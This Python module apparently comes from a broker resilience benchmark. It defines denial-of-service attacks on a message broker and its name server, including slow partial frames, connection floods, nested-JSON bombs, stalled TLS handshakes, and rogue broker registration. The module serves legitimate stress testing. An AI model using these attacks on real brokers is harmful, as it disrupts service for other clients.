"""Attacks on a broker process: the preparation and the attack itself.

Each docstring describes an attack. Their effect on other clients: `attacks_bench`.
"""

from __future__ import annotations

import selectors
import socket
import ssl
import struct
import time
from collections.abc import Callable, Sequence
from contextlib import ExitStack, suppress
from functools import partial
from typing import Final

import msgspec
from attrs import frozen
from model_tests.bench import bystander
from model_tests.bench.served import Served
from model_tests.support.broker.raw_client import RawClient, pull_fields, send_fields, send_message

from longpoll_protocol.codes import RequestCode
from longpoll_protocol.frames import FIELD_COUNT_MAX, Command, Serialisation, encode
from longpoll_protocol.message import BatchMessage, encode_batch
from longpoll_protocol.properties import encode_properties
from longpoll_protocol.sizes import MIB
from longpoll_runtime import Address

GREEDY_COUNT: Final = 60
PATIENCE_S: Final = 60.0
QUIET_S: Final = 3.0
"""A broker that answers nothing for so long has answered what it will."""


def frame(
    code: int,
    fields: dict[str, str] | None = None,
    body: bytes = b"",
    *,
    flag: int = 0,
    serialisation: Serialisation = Serialisation.JSON,
) -> bytes:
    """A request as it is written."""
    return b"".join(encode(Command(code, 1, flag, ext_fields=fields, body=body, serialisation=serialisation)))


def heartbeat(client_id: str) -> bytes:
    """A heartbeat that joins the group of the attack."""
    consumer = {"groupName": "crowd", "subscriptionDataSet": []}
    return frame(
        RequestCode.HEART_BEAT, {}, msgspec.json.encode({"clientID": client_id, "consumerDataSet": [consumer]})
    )


def crowd(served: Served, count: int, stack: ExitStack) -> list[socket.socket]:
    """Connections of members of one group, which read only on request."""
    # No notifications while they join: without limits that alone is two million.
    tell_changes(served, wanted=False)
    found = []
    for number in range(count):
        member = stack.enter_context(socket.create_connection(served.address, PATIENCE_S))
        member.sendall(heartbeat(f"m{number}"))
        found.append(member)
    wait_for_quiet(served)
    tell_changes(served, wanted=True)
    return found


def tell_changes(served: Served, *, wanted: bool) -> None:
    """Have the group's members told of its changes, or not."""
    with RawClient(served.address) as client:
        group = msgspec.json.encode({"groupName": "crowd", "notifyConsumerIdsChangedEnable": wanted})
        assert client.call(RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP, {}, group).code == 0


def wait_for_quiet(served: Served) -> None:
    """Wait until the broker has used little of the processor for a while."""
    last_s = served.processor_s()
    deadline_s = time.monotonic() + PATIENCE_S
    while time.monotonic() < deadline_s:
        bystander.PAUSE.wait(0.3)
        now_s = served.processor_s()
        if now_s - last_s < 0.05:
            return
        last_s = now_s


# -- the attacks: what is made ready, and then what is done ------------------------------------------------------------

Prepare = Callable[[Served, int, ExitStack], Callable[[], None]]
"""Makes an attack ready, of a size in peers, and gives what does it."""


@frozen
class Attack:
    """How one is made; `settings` are lines of `broker.conf`."""

    prepare: Prepare
    settings: str = ""
    policy: str = "strict"
    speaks_tls: bool = False
    """Whether the broker accepts TLS connections in addition to plain ones."""
    has_limit: bool = False
    """Whether there are settings, or constants, without which it can be tried too."""


def flood(address: Address, contents: Sequence[bytes]) -> None:
    """Write each item on a new connection and drop the answers, until there are no more items."""
    with ExitStack() as stack:
        chosen = stack.enter_context(selectors.DefaultSelector())
        for content in contents:
            peer = stack.enter_context(socket.create_connection(address, PATIENCE_S))
            peer.setblocking(False)
            chosen.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE, memoryview(content))
        while chosen.get_map():
            ready = chosen.select(QUIET_S)
            if not ready:
                return
            for key, events in ready:
                _turn(chosen, key, events)


def flood_and_wait(address: Address, contents: Sequence[bytes], count: int) -> None:
    """The same, and wait until so many messages have been delivered to the queue `Late`."""
    flood(address, contents)
    deadline_s = time.monotonic() + PATIENCE_S
    with RawClient(address) as client:
        while time.monotonic() < deadline_s:
            reply = client.call(RequestCode.GET_MAX_OFFSET, {"topic": "Late", "queueId": "0"})
            if int((reply.ext_fields or {}).get("offset", "0")) >= count:
                return
            bystander.PAUSE.wait(0.2)


def _turn(chosen: selectors.BaseSelector, key: selectors.SelectorKey, events: int) -> None:
    """Read a piece and write a piece; a connection that was closed is left."""
    peer = key.fileobj
    assert isinstance(peer, socket.socket)
    with suppress(BlockingIOError):
        try:
            if events & selectors.EVENT_READ and not peer.recv(MIB):
                chosen.unregister(peer)
                return
            if events & selectors.EVENT_WRITE:
                left = key.data[peer.send(key.data[:65_536]) :]
                chosen.modify(peer, selectors.EVENT_READ | (selectors.EVENT_WRITE if left else 0), left)
        except ConnectionError:
            chosen.unregister(peer)


def members(served: Served, count: int, stack: ExitStack) -> Callable[[], None]:
    """One connection joins and leaves a large group a hundred times, in one piece of 39 KB."""
    crowd(served, count, stack)
    restless = stack.enter_context(socket.create_connection(served.address, PATIENCE_S))
    leave = frame(RequestCode.UNREGISTER_CLIENT, {"clientID": "x", "consumerGroup": "crowd"})
    return lambda: restless.sendall((heartbeat("x") + leave) * 100)


def members_gone(served: Served, count: int, stack: ExitStack) -> Callable[[], None]:
    """A large group closes all its connections at once."""
    found = crowd(served, count, stack)

    def go() -> None:
        for member in found:
            member.close()

    return go


def _to_each(peers: Sequence[socket.socket], content: bytes) -> None:
    """Send the same to all that are still connected."""
    for each in peers:
        with suppress(OSError):
            each.sendall(content)


def _read_all(peers: Sequence[socket.socket]) -> None:
    """Read and forget what has come."""
    for each in peers:
        each.setblocking(False)
        with suppress(OSError):
            while each.recv(MIB):
                pass


def unfinished(served: Served, _count: int, stack: ExitStack) -> Callable[[], None]:
    """Sixty connections each send all but the end of a frame of 16 MiB."""
    greedy = [stack.enter_context(socket.create_connection(served.address, PATIENCE_S)) for _ in range(GREEDY_COUNT)]
    content = struct.pack(">iI", 16 * MIB, 100) + bytes(16 * MIB - 1_000)

    return partial(_to_each, greedy, content)


def unsent(served: Served, _count: int, stack: ExitStack) -> Callable[[], None]:
    """Sixty connections each ask for 27 MB of tables that the broker has to write for them, and read nothing."""
    with RawClient(served.address) as client:
        for number in range(300):
            send_message(client, f"T{number}")
    greedy = [stack.enter_context(socket.create_connection(served.address, PATIENCE_S)) for _ in range(GREEDY_COUNT)]
    content = frame(RequestCode.GET_ALL_TOPIC_CONFIG) * 600

    return partial(_to_each, greedy, content)


def half_frames(served: Served, count: int, stack: ExitStack) -> Callable[[], None]:
    """Peers that each have begun a frame go on with it, a byte at a time."""
    content = struct.pack(">iI", 1 * MIB, 1000) + b"{" * 500
    peers = [stack.enter_context(socket.create_connection(served.address, PATIENCE_S)) for _ in range(count)]
    for each in peers:
        each.sendall(content)

    def drip() -> None:
        deadline_s = time.monotonic() + 4
        while time.monotonic() < deadline_s:
            for each in peers:
                with suppress(OSError):
                    each.sendall(b"{")

    return drip


def headers(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """Twenty-four connections send headers of up to a mebibyte: of 60,000 fields, of as many as are read, of brackets.

    The fields are in either encoding.
    """
    fields = {f"n{number}": "" for number in range(60_000)}
    most = {f"n{number}": "x" for number in range(FIELD_COUNT_MAX - 20)} | pull_fields("T", 0)
    nested = b'{"code":11,"extFields":' + b'{"a":' * 150_000
    deep = struct.pack(">ii", len(nested) + 4, len(nested)) + nested
    wide = frame(RequestCode.PULL_MESSAGE, fields)
    packed = frame(RequestCode.PULL_MESSAGE, fields, serialisation=Serialisation.ROCKETMQ)
    beat = frame(RequestCode.HEART_BEAT, {}, b"[" * MIB)
    read = [frame(RequestCode.PULL_MESSAGE, most, serialisation=kind) for kind in Serialisation]
    contents = [kind * 20 for kind in (wide, packed, deep, beat) for _ in range(4)]
    contents += [kind * 1_000 for kind in read for _ in range(4)]
    return lambda: flood(served.address, contents)


def topics(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """Eight connections send to 20,000 topics that do not exist, and pull from as many more."""
    contents = [
        b"".join(
            frame(RequestCode.SEND_MESSAGE_V2, send_fields(f"made{lane}x{number}"), b"x")
            + frame(RequestCode.PULL_MESSAGE, pull_fields(f"none{lane}x{number}", 0, group=f"g{lane}x{number}"))
            for number in range(2_500)
        )
        for lane in range(8)
    ]
    return lambda: flood(served.address, contents)


def held(served: Served, _count: int, stack: ExitStack) -> Callable[[], None]:
    """A hundred connections wait for one queue, a thousand times each, and a message comes there."""
    with RawClient(served.address) as client:
        send_message(client, "Held")
    pulls = frame(RequestCode.PULL_MESSAGE, pull_fields("Held", 1, timeout_ms=300_000)) * 1_000
    peers = [stack.enter_context(socket.create_connection(served.address, PATIENCE_S)) for _ in range(100)]
    for each in peers:
        each.sendall(pulls)
    wait_for_quiet(served)

    def wake() -> None:
        for _ in range(3):
            with RawClient(served.address) as client:
                send_message(client, "Held")
            _read_all(peers)

    return wake


def transactions(served: Served, _count: int, stack: ExitStack) -> Callable[[], None]:
    """A producer prepares 20,000 messages and never answers the check-backs."""
    silent = stack.enter_context(socket.create_connection(served.address, PATIENCE_S))
    producer = {"clientID": "silent", "producerDataSet": [{"groupName": "PG"}]}
    silent.sendall(frame(RequestCode.HEART_BEAT, {}, msgspec.json.encode(producer)))
    properties = encode_properties({"TRAN_MSG": "true", "PGROUP": "PG"})
    prepared = frame(RequestCode.SEND_MESSAGE_V2, send_fields("Maybe", 0, properties), b"x") * 5_000
    return lambda: flood(served.address, [prepared] * 4)


def timers(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """A hundred thousand messages wish for one second."""
    wish = {"TIMER_DELIVER_MS": str((int(time.time()) + 12) * 1000), "UNIQ_KEY": "K"}
    timed = frame(RequestCode.SEND_MESSAGE_V2, send_fields("Late", 0, encode_properties(wish)), b"x") * 12_500
    return lambda: flood_and_wait(served.address, [timed] * 8, 100_000)


def delays(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """A hundred thousand messages wait for a second, and become due as fast as they came."""
    properties = encode_properties({"DELAY": "1"})
    late = frame(RequestCode.SEND_MESSAGE_V2, send_fields("Late", 0, properties), b"x") * 12_500
    return lambda: flood_and_wait(served.address, [late] * 8, 100_000)


def unique_keys(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """Sixteen connections ask 500 times each for a key that ten thousand messages have."""
    properties = encode_properties({"UNIQ_KEY": "SAME"})
    flood(served.address, [frame(RequestCode.SEND_MESSAGE_V2, send_fields("Keys", 0, properties), b"x") * 10_000])
    fields = {
        "topic": "Keys", "key": "SAME", "maxNum": "64", "beginTimestamp": "0", "endTimestamp": str(2**60),
        "_UNIQUE_KEY_QUERY": "true",
    }  # fmt: skip
    return lambda: flood(served.address, [frame(RequestCode.QUERY_MESSAGE, fields) * 500] * 16)


def slow_readers(served: Served, _count: int, stack: ExitStack) -> Callable[[], None]:
    """Sixty connections ask for 50 MB of messages each, and read a kilobyte now and then."""
    with RawClient(served.address) as client:
        for _ in range(64):
            send_message(client, "Large", b"x" * 256_000)
    asked = frame(RequestCode.PULL_MESSAGE, pull_fields("Large", 0)) * 200
    peers = [stack.enter_context(socket.create_connection(served.address, PATIENCE_S)) for _ in range(GREEDY_COUNT)]

    def ask() -> None:
        for each in peers:
            each.sendall(asked)
        deadline_s = time.monotonic() + 4
        while time.monotonic() < deadline_s:
            for each in peers:
                with suppress(OSError):
                    each.recv(1024)

    return ask


def filters(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """Four connections ask, by an expression of 3,600 characters, for messages with 32 KB of properties."""
    properties = encode_properties({f"p{number}": "x" * 8 for number in range(2_200)})
    with RawClient(served.address) as client:
        send_message(client, "Wide")
    flood(served.address, [frame(RequestCode.SEND_MESSAGE_V2, send_fields("Wide", 0, properties), b"x") * 850])
    expression = " OR ".join(["none = 1"] * 300)
    fields = pull_fields("Wide", 1, subscription=expression) | {"expressionType": "SQL92"}
    return lambda: flood(served.address, [frame(RequestCode.PULL_MESSAGE, fields) * 2] * 4)


def many_asked_for(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """Eight connections ask ten times each for two billion messages of a queue of 200,000, and want none of them."""
    flood(served.address, [frame(RequestCode.SEND_MESSAGE_V2, send_fields("Long"), b"x") * 50_000] * 4)
    fields = pull_fields("Long", 0, subscription="none") | {"maxMsgNums": "2000000000"}
    return lambda: flood(served.address, [frame(RequestCode.PULL_MESSAGE, fields) * 10] * 8)


def _unlike(served: Served, stack: ExitStack) -> list[socket.socket]:
    """190 connections wait for one queue, a thousand times each, and no pull is like another."""
    with RawClient(served.address) as client:
        send_message(client, "Held")
    peers = [stack.enter_context(socket.create_connection(served.address, PATIENCE_S)) for _ in range(190)]
    for lane, each in enumerate(peers):
        fields = [
            pull_fields("Held", 1, timeout_ms=300_000) | {"maxMsgNums": str(lane * 1_000 + k)} for k in range(1_000)
        ]
        each.sendall(b"".join(frame(RequestCode.PULL_MESSAGE, one) for one in fields))
    wait_for_quiet(served)
    return peers


def held_unlike(served: Served, _count: int, stack: ExitStack) -> Callable[[], None]:
    """190,000 pulls that all differ wait for one queue, and a message comes."""
    peers = _unlike(served, stack)

    def wake() -> None:
        with RawClient(served.address) as client:
            send_message(client, "Held")
        deadline_s = time.monotonic() + 6
        while time.monotonic() < deadline_s:
            _read_all(peers)

    return wake


def topic_gone(served: Served, _count: int, stack: ExitStack) -> Callable[[], None]:
    """190,000 pulls wait for a topic that is deleted."""
    _unlike(served, stack)

    def delete() -> None:
        with RawClient(served.address) as client:
            assert client.call(RequestCode.DELETE_TOPIC_IN_BROKER, {"topic": "Held"}).code == 0

    return delete


def batches(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """Four connections send eight batches of 31,000 messages each."""
    with RawClient(served.address) as client:
        send_message(client, "Many")
    body = encode_batch([BatchMessage(b"", "")] * 31_000)
    batch = frame(RequestCode.SEND_BATCH_MESSAGE, send_fields("Many") | {"m": "true"}, body)
    return lambda: flood(served.address, [batch * 8] * 4)


def handshakes(served: Served, count: int, stack: ExitStack) -> Callable[[], None]:
    """Peers begin TLS handshakes all at once, three times, and never go on with one."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    outgoing = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
    hello = outgoing.read()
    rounds = [
        [stack.enter_context(socket.create_connection(served.address, PATIENCE_S)) for _ in range(count)]
        for _ in range(3)
    ]
    wait_for_quiet(served)

    def begin() -> None:
        for peers in rounds:
            _to_each(peers, hello)
            wait_for_quiet(served)

    return begin


def bodies(served: Served, _count: int, _stack: ExitStack) -> Callable[[], None]:
    """Seven connections send the largest heartbeats and locks, and malformed ones."""
    groups, queue = [{"groupName": f"g{number}"} for number in range(10_000)], {"topic": "T", "brokerName": "b"}
    subscriptions = [{"topic": f"t{number}", "subString": "a||" * 21_000} for number in range(60)]
    contents = [
        frame(RequestCode.HEART_BEAT, {}, body) * 5
        for body in (
            msgspec.json.encode({"clientID": "c", "consumerDataSet": groups}),
            msgspec.json.encode({"clientID": "c", "producerDataSet": groups}),
            msgspec.json.encode({"consumerDataSet": [{"groupName": "g", "subscriptionDataSet": subscriptions}]}),
            b'{"x":[1' + b",1" * 2_000_000,
            b'{"x":[null' + b",{}" * 40_000,
            b'{"x":"' + b'\\"' * 60_000,
        )
    ]
    locks = {"consumerGroup": "g", "clientId": "c", "mqSet": [queue | {"queueId": each} for each in range(10_000)]}
    contents.append(frame(RequestCode.LOCK_BATCH_MQ, {}, msgspec.json.encode(locks)) * 20)
    return lambda: flood(served.address, contents)


def registrations(served: Served, _count: int, stack: ExitStack) -> Callable[[], None]:
    """Eight unknown brokers repeatedly register with as many topics as fit; others list all topics."""
    name_server = served.name_server
    rows = {f"t{number}": {"topicName": f"t{number}", "readQueueNums": 8, "perm": 6} for number in range(49_000)}
    body = msgspec.json.encode({"topicConfigSerializeWrapper": {"topicConfigTable": rows}})
    contents = [
        frame(
            RequestCode.REGISTER_BROKER,
            {"brokerName": f"b{lane}", "brokerAddr": f"127.0.0.1:{lane}", "clusterName": "c", "brokerId": "0",
             "haServerAddr": "127.0.0.1:9"},
            body,
        )
        * 5
        for lane in range(8)
    ]  # fmt: skip
    contents += [frame(RequestCode.GET_ALL_TOPIC_LIST_FROM_NAMESERVER) * 20] * 4
    contents += [frame(RequestCode.WIPE_WRITE_PERM_OF_BROKER, {"brokerName": "b0"}) * 20]
    return lambda: flood(name_server, contents)


ATTACKS: Final[dict[str, Attack]] = {
    "members": Attack(members, has_limit=True),
    "members gone": Attack(members_gone, has_limit=True),
    "unfinished frames": Attack(unfinished, has_limit=True),
    "unsent answers": Attack(unsent, has_limit=True),
    "half frames": Attack(half_frames),
    "headers": Attack(headers),
    "topics": Attack(topics, "mappedFileSizeConsumeQueue=20000\n"),
    "held": Attack(held),
    "transactions": Attack(transactions, "transactionTimeOut=1000\ntransactionCheckInterval=1000\n"),
    "timers": Attack(timers, policy="rocketmq-5"),
    "delays": Attack(delays),
    "unique keys": Attack(unique_keys),
    "slow readers": Attack(slow_readers),
    "filters": Attack(filters, "enablePropertyFilter=true\n"),
    "many asked for": Attack(many_asked_for),
    "held unlike": Attack(held_unlike),
    "topic gone": Attack(topic_gone),
    "batches": Attack(batches),
    "bodies": Attack(bodies),
    "handshakes": Attack(handshakes, speaks_tls=True),
    "registrations": Attack(registrations),
}
